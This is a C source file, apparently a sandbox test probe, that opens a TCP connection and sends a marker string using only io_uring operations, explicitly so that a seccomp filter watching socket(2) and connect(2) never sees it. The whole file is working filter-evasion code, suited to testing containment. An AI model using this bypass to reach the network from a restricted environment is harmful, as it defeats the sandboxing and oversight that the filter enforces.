/* Opens a TCP connection and sends a marker entirely through io_uring (IORING_OP_SOCKET,
 * IORING_OP_CONNECT, IORING_OP_SEND), so a seccomp filter that only inspects socket(2) and
 * connect(2) never sees it. Usage: io_uring_net IPV4 PORT MARKER. Prints one JSON line. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

struct ring {
    int fd;
    unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
    struct io_uring_sqe *sqes;
    struct io_uring_cqe *cqes;
};

static void step(const char *name, long res, int last) {
    if (res >= 0)
        printf("\"%s\": {\"ok\": true, \"value\": %ld}%s", name, res, last ? "}\n" : ", ");
    else
        printf("\"%s\": {\"ok\": false, \"error\": \"%s\"}%s", name, strerrorname_np((int)-res),
               last ? "}\n" : ", ");
    fflush(stdout);
}

static void *map(int fd, size_t len, off_t off) {
    void *p = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, off);
    if (p == MAP_FAILED) {
        perror("mmap");
        exit(1);
    }
    return p;
}

/* Submits one request and waits for its completion; returns its result (-errno on error). */
static int submit(struct ring *r, const struct io_uring_sqe *req) {
    unsigned tail = *r->sq_tail, idx = tail & *r->sq_mask;
    r->sqes[idx] = *req;
    r->sq_array[idx] = idx;
    __atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
    if (syscall(__NR_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
        return -errno;
    unsigned head = __atomic_load_n(r->cq_head, __ATOMIC_ACQUIRE);
    while (head == __atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE))
        ;
    int res = r->cqes[head & *r->cq_mask].res;
    __atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
    return res;
}

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: %s IPV4 PORT MARKER\n", argv[0]);
        return 2;
    }
    printf("{");
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    struct ring r;
    r.fd = (int)syscall(__NR_io_uring_setup, 8, &p);
    step("setup", r.fd < 0 ? -errno : r.fd, r.fd < 0);
    if (r.fd < 0)
        return 0;

    char *sq = map(r.fd, p.sq_off.array + p.sq_entries * sizeof(unsigned), IORING_OFF_SQ_RING);
    char *cq = map(r.fd, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe),
                   IORING_OFF_CQ_RING);
    r.sqes = map(r.fd, p.sq_entries * sizeof(struct io_uring_sqe), IORING_OFF_SQES);
    r.sq_tail = (unsigned *)(sq + p.sq_off.tail);
    r.sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
    r.sq_array = (unsigned *)(sq + p.sq_off.array);
    r.cq_head = (unsigned *)(cq + p.cq_off.head);
    r.cq_tail = (unsigned *)(cq + p.cq_off.tail);
    r.cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
    r.cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);

    struct io_uring_sqe req;
    memset(&req, 0, sizeof req);
    req.opcode = IORING_OP_SOCKET;
    req.fd = AF_INET;
    req.off = SOCK_STREAM;
    int sock = submit(&r, &req);
    step("socket", sock, sock < 0);
    if (sock < 0)
        return 0;

    struct sockaddr_in addr;
    memset(&addr, 0, sizeof addr);
    addr.sin_family = AF_INET;
    addr.sin_port = htons((unsigned short)atoi(argv[2]));
    inet_pton(AF_INET, argv[1], &addr.sin_addr);
    memset(&req, 0, sizeof req);
    req.opcode = IORING_OP_CONNECT;
    req.fd = sock;
    req.addr = (unsigned long)&addr;
    req.off = sizeof addr;
    int res = submit(&r, &req);
    step("connect", res, res < 0);
    if (res < 0)
        return 0;

    memset(&req, 0, sizeof req);
    req.opcode = IORING_OP_SEND;
    req.fd = sock;
    req.addr = (unsigned long)argv[3];
    req.len = (unsigned)strlen(argv[3]);
    step("send", submit(&r, &req), 1);
    return 0;
}
